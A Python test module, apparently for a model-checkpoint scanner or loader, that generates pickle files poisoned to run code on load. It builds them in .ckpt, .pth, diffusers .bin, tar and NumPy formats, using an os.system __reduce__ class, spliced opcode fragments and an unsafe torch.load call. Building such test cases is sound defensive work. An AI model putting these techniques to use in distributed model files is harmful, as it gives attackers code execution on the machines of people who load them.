"""Poisoned pickles in every container that holds them."""

import io
import pickle
import pickletools
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import numpy as np
import routes
import torch
from entries import CODE, COMMAND, Entry
from opcodes import (
    BURDENS,
    CALLS,
    EMPTY_LIST,
    FORMS,
    NESTED,
    POP,
    STOP,
    proto,
)
from routes import Door, give


class Evil:
    """What a plain ``pickle.dump`` makes of an object with a will."""

    def __reduce__(self) -> tuple:
        import os

        return os.system, (COMMAND,)


def entries() -> Iterator[Entry]:
    """All of them."""
    for name, fragment in CALLS.items():
        yield _entry('calls', name, 'zip .ckpt', fragment)
    for container in CONTAINERS:
        for name, fragment in FORMS.items():
            yield _entry(f'opcodes in {container}', name, container, fragment)
    for container in ('zip .ckpt', 'legacy .ckpt', 'zip .pth'):
        for name, fragment in BURDENS.items():
            kind = f'burdens in {container}'
            yield _entry(kind, name, container, fragment, armed=False)
    yield from _streams()
    yield from _parts()
    yield from _arrays()


def _entry(
    kind: str, name: str, container: str, fragment: bytes, armed: bool = True
) -> Entry:
    write, route, path = CONTAINERS[container]
    fuse = partial(_load_carelessly, path) if armed else None

    def fill(folder: Path) -> None:
        write_helpers(folder)
        write(folder, fragment)

    return Entry(kind, name, fill, route, fuse)


def write_helpers(folder: Path) -> None:
    """What poison may import or read."""
    (folder / 'evil.py').write_text(f'{CODE}\n')
    for name in ('evil.pkl', 'evil.pt'):
        (folder / name).write_bytes(proto(4) + NESTED)
    array = np.array([Evil()], dtype=object)
    np.save(folder / 'evil.npy', array, allow_pickle=True)


def _load_carelessly(path: str) -> None:
    import sys

    sys.path.insert(0, '.')
    torch.load(path, weights_only=False)


def _poisoned(pickled: bytes, fragment: bytes) -> bytes:
    """The fragment runs, its value is dropped, the rest is as before."""
    rest = pickled[2:] if pickled[:1] == b'\x80' else pickled
    return proto(4) + fragment + POP + rest


def _poison_zip(name: str, folder: Path, fragment: bytes) -> None:
    give(name, to=folder)
    path = folder / name
    with zipfile.ZipFile(path) as archive:
        files = {n: archive.read(n) for n in archive.namelist()}
    with zipfile.ZipFile(path, 'w') as archive:
        for entry, content in files.items():
            if entry.endswith('data.pkl'):
                content = _poisoned(content, fragment)
            archive.writestr(entry, content)


def split_stream(content: bytes, count: int) -> tuple[list[bytes], bytes]:
    """The first pickles of a stream, and what follows them."""
    file = io.BytesIO(content)
    pickles = []
    for _ in range(count):
        start = file.tell()
        for _ in pickletools.genops(file):
            pass
        pickles.append(content[start : file.tell()])
    return pickles, content[file.tell() :]


def _poison_legacy(
    name: str, folder: Path, fragment: bytes, number: int = 3
) -> None:
    """Number 3 of the five pickles holds the content."""
    pickles, rest = split_stream((routes.SOUND / name).read_bytes(), 5)
    pickles[number] = _poisoned(pickles[number], fragment)
    (folder / name).write_bytes(b''.join(pickles) + rest)


def _compvis(checkpoint: str) -> Callable[[], list[Door]]:
    sound = str(routes.SOUND / 'model.yaml')
    return lambda: routes.compvis(sound, checkpoint)


def _poison_bin(folder: Path, fragment: bytes) -> None:
    """The denoiser of a folder of diffusers."""
    from safetensors.torch import load_file

    give('diffusers', to=folder)
    (folder / 'diffusers').rename(folder / 'theirs')
    unet = folder / 'theirs' / 'unet'
    weights = unet / 'diffusion_pytorch_model.safetensors'
    target = unet / 'diffusion_pytorch_model.bin'
    torch.save(load_file(weights), target)
    weights.unlink()
    with zipfile.ZipFile(target) as archive:
        files = {n: archive.read(n) for n in archive.namelist()}
    with zipfile.ZipFile(target, 'w') as archive:
        for entry, content in files.items():
            if entry.endswith('data.pkl'):
                content = _poisoned(content, fragment)
            archive.writestr(entry, content)


BIN = 'theirs/unet/diffusion_pytorch_model.bin'
# How a pickle is put into a file, what is done with that, its name.
CONTAINERS = {
    'zip .ckpt': (
        partial(_poison_zip, 'model.ckpt'),
        _compvis('model.ckpt'),
        'model.ckpt',
    ),
    'legacy .ckpt': (
        partial(_poison_legacy, 'legacy.ckpt'),
        _compvis('legacy.ckpt'),
        'legacy.ckpt',
    ),
    'zip .pth': (
        partial(_poison_zip, 'class.pth'),
        routes.checkpoint,
        'class.pth',
    ),
    '.bin': (_poison_bin, routes.diffusers, BIN),
}


def _streams() -> Iterator[Entry]:
    """Files that are nothing but a pickle, of every protocol."""
    for number in range(6):
        content = pickle.dumps(dict(state_dict=Evil()), number)
        for name, route in (
            ('model.ckpt', _compvis('model.ckpt')),
            ('class.pth', routes.checkpoint),
        ):
            yield Entry(
                'plain pickles',
                f'protocol {number} as {name}',
                partial(_write, name, content),
                route,
                partial(_load_carelessly, name),
            )


def _write(name: str, content: bytes, folder: Path) -> None:
    (folder / name).write_bytes(content)


def _parts() -> Iterator[Entry]:
    """Every pickle of files of torch before 1.6, and tar files."""
    for name, route in (
        ('legacy.ckpt', _compvis('legacy.ckpt')),
        ('legacy.pth', lambda: routes.checkpoint('legacy.pth')),
    ):
        for number in range(5):
            for form in ('GLOBAL REDUCE', 'INST'):
                yield Entry(
                    'parts of legacy files',
                    f'{form} in pickle {number} of {name}',
                    partial(_legacy_part, name, FORMS[form], number),
                    route,
                    partial(_load_carelessly, name),
                )
    for name, route in (
        ('model.ckpt', _compvis('model.ckpt')),
        ('class.pth', routes.checkpoint),
    ):
        for part in ('storages', 'tensors', 'pickle', 'sys_info'):
            yield Entry(
                'tar files',
                f'{part} of {name}',
                partial(_tar, name, part),
                route,
                partial(_load_carelessly, name),
            )


def _legacy_part(
    name: str, fragment: bytes, number: int, folder: Path
) -> None:
    _poison_legacy(name, folder, fragment, number)


def _tar(name: str, poisoned: str, folder: Path) -> None:
    """As torch before 0.1.10 wrote; one of its parts is poison."""
    sound = dict(
        sys_info=pickle.dumps({}, 2),
        storages=pickle.dumps(0, 2),
        tensors=pickle.dumps(0, 2),
        pickle=pickle.dumps({}, 2),
    )
    sound[poisoned] = proto(2) + FORMS['GLOBAL REDUCE'] + STOP
    with tarfile.open(folder / name, 'w') as archive:
        for part, content in sound.items():
            info = tarfile.TarInfo(part)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))


def _arrays() -> Iterator[Entry]:
    """Files of NumPy, which may hold pickles."""
    for name, fragment in FORMS.items():
        yield Entry(
            'arrays',
            f'{name} in .npy',
            partial(_object_array, fragment),
            lambda: routes.field('array.npy'),
            partial(np.load, 'array.npy', None, True),
        )
    for name, save in (('a.npy', np.savez), ('b.npy', np.savez_compressed)):
        yield Entry(
            'arrays',
            f'{save.__name__} as {name}',
            lambda folder, name=name, save=save: _archive(folder, name, save),
            lambda name=name: routes.field(name),
            partial(_load_archive, name),
        )


def _object_array(fragment: bytes, folder: Path) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b' ' * (117 - len(header)) + b'\n'
    start = b'\x93NUMPY\x01\x00' + len(header).to_bytes(2, 'little')
    content = proto(4) + fragment + POP + EMPTY_LIST + STOP
    (folder / 'array.npy').write_bytes(start + header + content)
    write_helpers(folder)


def _archive(folder: Path, name: str, save: Callable) -> None:
    with open(folder / name, 'wb') as file:
        save(file, a=np.array([Evil()], dtype=object))


def _load_archive(name: str) -> None:
    np.load(name, allow_pickle=True)['a']
